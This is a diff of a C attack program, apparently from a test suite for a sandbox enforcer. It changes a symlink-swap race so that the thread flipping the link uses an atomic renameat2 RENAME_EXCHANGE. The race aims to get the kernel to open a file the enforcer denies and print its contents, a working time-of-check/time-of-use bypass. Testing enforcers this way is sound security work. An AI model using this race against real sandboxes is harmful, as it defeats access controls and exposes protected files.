@@ -5,24 +5,34 @@
  *
  *	opener			swapper			enforcer
  *	openat(link) --------------------------------->	resolves link: permitted
- *				unlinkat(link)
- *				symlinkat(denied, link)
+ *				renameat2(link, other,
+ *				  RENAME_EXCHANGE)
  *	kernel walks link: denied <-------------------	lets the call through
  *
- * The link lies in the scratch directory. It is made anew, not exchanged: an
- * enforcer that judges renames would hold the swapper up each time. Winning
- * prints DATA and the content of the denied file.
+ * Both links lie in the scratch directory. Winning prints DATA and the content
+ * of the denied file.
  */
 #include "attack.h"
 
-static char link_name[PATH_MAX];
-static const char *targets[2];
+#ifndef RENAME_EXCHANGE
+#define RENAME_EXCHANGE 2
+#endif
+
+static char link_name[PATH_MAX], other_name[PATH_MAX];
+
+static void place(char *name, const char *dir, const char *leaf, const char *target)
+{
+	join(name, dir, leaf);
+	unlinkat(way_from, name, 0);
+	if (symlinkat(target, way_from, name))
+		broken("symlink %s: %s", name, strerror(errno));
+}
 
 static void swap_run(struct flip *flip)
 {
 	for (unsigned int turn = 1; !atomic_load(&flip->stop); turn++) {
-		syscall(SYS_unlinkat, JUNK(way_from), link_name, JUNK(0));
-		syscall(SYS_symlinkat, targets[turn % 2], JUNK(way_from), link_name);
+		syscall(SYS_renameat2, JUNK(way_from), link_name, JUNK(way_from), other_name,
+			JUNK(RENAME_EXCHANGE));
 		atomic_store(&flip->turns, turn);
 		spin(flip_pause(turn));
 	}
@@ -31,12 +41,8 @@ static void swap_run(struct flip *flip)
 static void race(struct run *run, const char *first, const char *second)
 {
 	run_learn_decoy(run);
-	targets[0] = first;
-	targets[1] = second;
-	join(link_name, run->dir, "link");
-	unlinkat(way_from, link_name, 0);
-	if (symlinkat(first, way_from, link_name))
-		broken("symlink %s: %s", link_name, strerror(errno));
+	place(link_name, run->dir, "link", first);
+	place(other_name, run->dir, "other", second);
 	race_against_child(run, shared_memory(sizeof(struct flip)), swap_run, link_name);
 }
 
